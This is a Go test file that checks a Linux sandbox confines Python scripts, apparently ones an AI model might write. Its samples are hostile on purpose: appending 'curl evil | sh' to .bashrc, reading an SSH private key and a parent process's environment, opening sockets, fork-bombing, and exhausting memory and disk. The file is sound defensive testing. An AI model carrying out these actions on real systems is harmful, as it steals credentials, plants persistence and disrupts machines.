//go:build linux

package sandbox

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// python returns the real Python interpreter (not a shim that needs the
// real HOME), or skips.
func python(t *testing.T) string {
	t.Helper()
	out, err := exec.Command("python3", "-c", "import sys; print(sys.executable)").Output()
	if err != nil {
		t.Skip("no python3")
	}
	return strings.TrimSpace(string(out))
}

// requireSandbox skips when the kernel cannot confine, failing instead when
// LPPCTL_REQUIRE_SANDBOX is set (CI on a kernel that must have it).
func requireSandbox(t *testing.T) {
	t.Helper()
	if err := Available(); err != nil {
		if os.Getenv("LPPCTL_REQUIRE_SANDBOX") != "" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
}

// hostile is a script the model could write, and what must come of it.
type hostile struct {
	name   string
	script string // Python; argv[1] is the outside folder, argv[2] the test's pid, argv[3] a loopback port
	want   string // in the script's stderr or stdout
	code   int    // exit code
}

func TestSandboxConfinesHostileScripts(t *testing.T) {
	requireSandbox(t)
	py := python(t)

	// A home and a project outside the sandbox, with secrets in them.
	home := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(home, ".ssh"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("PRIVATE-KEY-BODY"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o644))
	t.Setenv("HOME", home)
	t.Setenv("OPENAI_API_KEY", "sk-parent-secret")

	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	require.NoError(t, err)
	defer ln.Close()
	accepted := make(chan struct{}, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted <- struct{}{}
			c.Close()
		}
	}()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)

	tests := []hostile{
		{
			name:   "writes outside its folder",
			script: "import sys\nopen(sys.argv[1] + '/PWNED', 'w').write('x')\n",
			want:   "PermissionError", code: 1,
		},
		{
			name:   "appends to the real .bashrc",
			script: "import sys\nopen(sys.argv[1] + '/.bashrc', 'a').write('curl evil | sh\\n')\n",
			want:   "PermissionError", code: 1,
		},
		{
			name:   "reads ~/.ssh",
			script: "import sys\nprint(open(sys.argv[1] + '/.ssh/id_ed25519').read())\n",
			want:   "PermissionError", code: 1,
		},
		{
			name:   "reads its parent's environment",
			script: "import os, sys\nfor p in (os.getppid(), int(sys.argv[2])):\n    try:\n        print(open('/proc/%d/environ' % p).read())\n    except OSError as e:\n        print('refused', p, type(e).__name__)\nprint('OPENAI' in ''.join(os.environ))\n",
			want:   "refused", code: 0, // and False: no OPENAI_* reaches it
		},
		{
			name:   "opens a socket",
			script: "import socket, sys\ns = socket.create_connection(('127.0.0.1', int(sys.argv[3])), timeout=5)\nprint('connected')\n",
			want:   "Error", code: 1,
		},
		{
			name:   "fork-bombs",
			script: "import os, sys, time\nn = 0\ntry:\n    while n < 100000:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n        n += 1\nexcept OSError as e:\n    print('fork refused after', n, e)\n    sys.exit(3)\n",
			want:   "fork refused after 0", code: 3,
		},
		{
			name:   "allocates 4 GiB",
			script: "b = bytearray(4 << 30)\nprint(len(b))\n",
			want:   "MemoryError", code: 1,
		},
		{
			name:   "writes 1 GiB",
			script: "chunk = b'x' * (1 << 20)\nwith open('big', 'wb') as f:\n    for i in range(1024):\n        f.write(chunk)\n        f.flush()\nprint('wrote 1 GiB')\n",
			want:   "File too large", code: 1,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			require.NoError(t, os.WriteFile(filepath.Join(dir, "x.py"), []byte(tt.script), 0o644))
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			defer cancel()
			cmd, err := Command(ctx, Options{Dir: dir, Env: []string{"PATH=/usr/bin:/bin", "OPENAI_API_KEY=never-passed-by-callers"}, FileSize: 16 << 20}, py, "./x.py", home, strconv.Itoa(os.Getpid()), port)
			require.NoError(t, err)
			var stdout, stderr bytes.Buffer
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			_ = cmd.Run()
			_ = KillGroup(cmd)
			out := stdout.String() + stderr.String()
			assert.Equal(t, tt.code, cmd.ProcessState.ExitCode(), out)
			assert.Contains(t, out, tt.want)
			assert.NotContains(t, out, "sk-parent-secret")
			assert.NotContains(t, out, "PRIVATE-KEY-BODY")
			assert.NotContains(t, out, "connected")
			assert.NotContains(t, out, "True", "a credential-like variable reached the script")
		})
	}
	// The home is as it was, and nothing connected.
	rc, err := os.ReadFile(filepath.Join(home, ".bashrc"))
	require.NoError(t, err)
	assert.Equal(t, "# rc\n", string(rc))
	_, err = os.Stat(filepath.Join(home, "PWNED"))
	assert.True(t, os.IsNotExist(err))
	assert.Len(t, accepted, 0)
}

// TestSandboxRunsAComputeUnit: an ordinary script reads stdin, writes its
// folder and prints JSON; HOME and TMPDIR are its folder.
func TestSandboxRunsAComputeUnit(t *testing.T) {
	requireSandbox(t)
	py := python(t)
	dir := t.TempDir()
	script := "import json, os, sys, tempfile\nd = json.load(sys.stdin)\nopen('out.txt', 'w').write('ok')\nwith tempfile.NamedTemporaryFile() as f: pass\nprint(json.dumps({'n': d['n'] + 1, 'home': os.environ['HOME'] == os.getcwd()}))\n"
	require.NoError(t, os.WriteFile(filepath.Join(dir, "x.py"), []byte(script), 0o644))
	cmd, err := Command(context.Background(), Options{Dir: dir, Env: []string{"HOME=/root", "LANG=C.UTF-8"}}, py, "./x.py")
	require.NoError(t, err)
	cmd.Stdin = strings.NewReader(`{"n": 41}`)
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, string(out))
	assert.Equal(t, `{"n": 42, "home": true}`, strings.TrimSpace(string(out)))
	b, err := os.ReadFile(filepath.Join(dir, "out.txt"))
	require.NoError(t, err)
	assert.Equal(t, "ok", string(b))
}

// TestSandboxStartsAProgramWhoseArgumentsNeedMemory: the trampoline sets
// the address-space limit last and then may not allocate; copying large
// arguments or environment for execve after the limit killed it with
// "fatal error: runtime: out of memory" (exit 2), and any allocation that
// needed a fresh span did so now and then (a flaky example under load).
func TestSandboxStartsAProgramWhoseArgumentsNeedMemory(t *testing.T) {
	requireSandbox(t)
	py := python(t)
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "x.py"), []byte("import os, sys\nprint(sum(map(len, sys.argv[1:])), len(os.environ.get('BIG', '')))\n"), 0o644))
	big := strings.Repeat("a", 120<<10) // under execve's 128 KiB per string
	tests := []struct {
		name string
		args int // arguments of 120 KiB
		env  bool
		want string
	}{
		{name: "one large argument", args: 1, want: "122880 0"},
		{name: "arguments near execve's total limit", args: 15, want: "1843200 0"},
		{name: "a large environment variable", env: true, want: "0 122880"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := []string{"./x.py"}
			for range tt.args {
				args = append(args, big)
			}
			env := []string{"PATH=/usr/bin:/bin"}
			if tt.env {
				env = append(env, "BIG="+big)
			}
			cmd, err := Command(context.Background(), Options{Dir: dir, Env: env}, py, args...)
			require.NoError(t, err)
			out, err := cmd.CombinedOutput()
			require.NoError(t, err, clipOutput(out))
			assert.Equal(t, tt.want, strings.TrimSpace(string(out)))
		})
	}
}

// TestSandboxLimitsOpenFiles: the program gets 1024 open files (Go raised
// the trampoline's soft limit to the hard one; the program does not keep it).
func TestSandboxLimitsOpenFiles(t *testing.T) {
	requireSandbox(t)
	py := python(t)
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "x.py"), []byte("import resource\nprint(resource.getrlimit(resource.RLIMIT_NOFILE)[0])\n"), 0o644))
	var lim syscall.Rlimit
	require.NoError(t, syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim))
	cmd, err := Command(context.Background(), Options{Dir: dir}, py, "./x.py")
	require.NoError(t, err)
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, clipOutput(out))
	assert.Equal(t, strconv.FormatUint(min(lim.Max, 1024), 10), strings.TrimSpace(string(out)))
}

// TestSandboxReportsAProgramItCannotExecute: a missing program is reported
// on stderr with exit code 126, as every failure of the trampoline is.
func TestSandboxReportsAProgramItCannotExecute(t *testing.T) {
	requireSandbox(t)
	missing := filepath.Join(t.TempDir(), "python3")
	cmd, err := Command(context.Background(), Options{Dir: t.TempDir()}, missing, "./x.py")
	require.NoError(t, err)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	_ = cmd.Run()
	assert.Equal(t, 126, cmd.ProcessState.ExitCode())
	assert.Equal(t, "[SANDBOX] cannot confine the program: cannot execute "+missing+": no such file or directory\n", stderr.String())
	assert.Empty(t, stdout.String())
}

// clipOutput is a program's output for a failure message: its first 2,000 bytes.
func clipOutput(b []byte) string {
	if len(b) > 2000 {
		return string(b[:2000]) + "…"
	}
	return string(b)
}

// TestSandboxIsKilledWithItsContext: cancelling the command kills the
// confined program and everything in its PID namespace.
func TestSandboxIsKilledWithItsContext(t *testing.T) {
	requireSandbox(t)
	py := python(t)
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "x.py"), []byte("import threading, time\nthreading.Thread(target=time.sleep, args=(300,)).start()\nprint('started', flush=True)\ntime.sleep(300)\n"), 0o644))
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cmd, err := Command(ctx, Options{Dir: dir}, py, "./x.py")
	require.NoError(t, err)
	out, err := cmd.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, cmd.Start())
	buf := make([]byte, 7)
	_, err = out.Read(buf)
	require.NoError(t, err)
	assert.Equal(t, "started", string(buf))
	cancel()
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(30 * time.Second): // not a timing verdict: a program that was not killed never ends
		t.Fatal("the sandboxed program outlived its cancelled context")
	}
	// Nothing of its process group is left.
	assert.ErrorIs(t, syscall.Kill(-cmd.Process.Pid, 0), syscall.ESRCH)
}

// TestSandboxDiesWithLppctl: when the process that started it is killed
// (kill -9 of lppctl), the confined program is killed too.
func TestSandboxDiesWithLppctl(t *testing.T) {
	if os.Getenv("LPPCTL_SANDBOX_TEST_PARENT") != "" {
		return // the helper's part runs in TestSandboxHelperParent
	}
	requireSandbox(t)
	python(t)
	helper := exec.Command(os.Args[0], "-test.run=^TestSandboxHelperParent$")
	helper.Env = append(os.Environ(), "LPPCTL_SANDBOX_TEST_PARENT="+t.TempDir())
	out, err := helper.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, helper.Start())
	var line string
	buf := make([]byte, 64)
	for !strings.Contains(line, "\n") {
		n, err := out.Read(buf)
		require.NoError(t, err, line)
		line += string(buf[:n])
	}
	pid, err := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(strings.SplitN(line, "\n", 2)[0], "child ")))
	require.NoError(t, err, line)
	require.NoError(t, syscall.Kill(pid, 0), "the confined program runs")
	require.NoError(t, helper.Process.Kill())
	_ = helper.Wait()
	deadline := time.Now().Add(30 * time.Second) // not a timing verdict: a survivor never goes
	for syscall.Kill(pid, 0) == nil {
		if time.Now().After(deadline) {
			t.Fatalf("the confined program %d outlived the process that started it", pid)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestSandboxHelperParent is the parent TestSandboxDiesWithLppctl kills:
// it starts a confined program, prints its pid and waits.
func TestSandboxHelperParent(t *testing.T) {
	dir := os.Getenv("LPPCTL_SANDBOX_TEST_PARENT")
	if dir == "" {
		t.Skip("a helper of TestSandboxDiesWithLppctl")
	}
	require.NoError(t, os.WriteFile(filepath.Join(dir, "x.py"), []byte("import time\ntime.sleep(300)\n"), 0o644))
	cmd, err := Command(context.Background(), Options{Dir: dir}, python(t), "./x.py")
	require.NoError(t, err)
	require.NoError(t, cmd.Start())
	fmt.Printf("child %d\n", cmd.Process.Pid)
	_ = cmd.Wait()
}
